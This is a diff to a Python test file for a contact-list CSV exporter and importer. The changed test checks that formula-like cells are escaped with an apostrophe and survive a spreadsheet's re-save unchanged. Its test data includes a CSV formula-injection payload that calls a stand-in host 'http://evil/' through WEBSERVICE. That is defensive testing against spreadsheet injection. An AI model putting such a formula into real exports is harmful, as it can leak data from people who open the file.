@@ -171,6 +171,8 @@ def test_a_person_says_what_the_columns_hold_and_that_is_remembered(tmp_path: Pa
     found = read(path, remembered=lambda headings: remembered.get(headings, ()))
     assert found.fields == tuple(map(Field, mapping))
     assert written(found.contacts[0]) == "Anna Weber|+49301234567"
+    newer = read(path, remembered=lambda _: ("name", "of a newer version"))
+    assert newer.fields == read(path).fields
 
 
 def test_reading_can_be_cancelled(tmp_path: Path) -> None:
@@ -231,23 +233,26 @@ def test_what_goes_out_comes_back_the_same(
 
 
 def test_a_spreadsheet_leaves_plus_and_leading_zeros_alone(tmp_path: Path) -> None:
-    """What is a formula for text to a spreadsheet stays text when it is saved again."""
+    """Nothing in it is a formula, and it stays so when a spreadsheet saves it again."""
     path = tmp_path / "out.csv"
-    numbers = (ContactNumber("+49301234567", "work"), ContactNumber("0815", "=cmd"))
+    formula = '="x"&webservice("http://evil/")'
+    numbers = (ContactNumber("+49301234567", "work"), ContactNumber("0815", formula))
     write_contacts(path, [Contact("1", "=HYPERLINK(1)", numbers=numbers, customer_id="007")], ",")
     data = path.read_bytes()
     assert data.startswith(b"\xef\xbb\xbf")
     (_, row) = csv.reader(io.StringIO(data.decode("utf-8-sig")))
-    assert row[:6] == ["'=HYPERLINK(1)", "", "work", '="+49301234567"', "'=cmd", '="0815"']
-    assert not [cell for cell in row if cell[:1] in "+-@" and cell]
-    # A spreadsheet shows the texts of the formulas, and saves what it shows.
-    saved = io.StringIO()
-    as_saved = [cell[2:-1] if cell.startswith('="') else cell for cell in row]
-    csv.writer(saved).writerows([data.decode("utf-8-sig").splitlines()[0].split(","), as_saved])
-    path.write_text(saved.getvalue())
-    (contact,) = read(path).contacts
-    assert (contact.name, contact.customer_id) == ("=HYPERLINK(1)", "007")
-    assert contact.numbers == (ContactNumber("+49301234567", "work"), ContactNumber("0815", "=cmd"))
+    assert row[:6] == ["'=HYPERLINK(1)", "", "work", "'+49301234567", f"'{formula}", "'0815"]
+    assert not [cell for cell in row if cell[:1] in "=+-@" and cell]
+    # An earlier version wrote numbers as formulas for text. A spreadsheet saves what these show.
+    before = [f'="{cell[1:]}"' if cell[1:].lstrip("+").isdigit() else cell for cell in row]
+    shown = [cell[2:-1] if cell.startswith('="') else cell for cell in before]
+    for table in (row, before, shown):
+        saved = io.StringIO()
+        csv.writer(saved).writerows([data.decode("utf-8-sig").splitlines()[0].split(","), table])
+        path.write_text(saved.getvalue())
+        (contact,) = read(path).contacts
+        assert (contact.name, contact.customer_id) == ("=HYPERLINK(1)", "007")
+        assert contact.numbers == numbers
 
 
 @given(text=st.text(max_size=200), lines=st.lists(st.text('",;\n\r ab0', max_size=12), max_size=12))
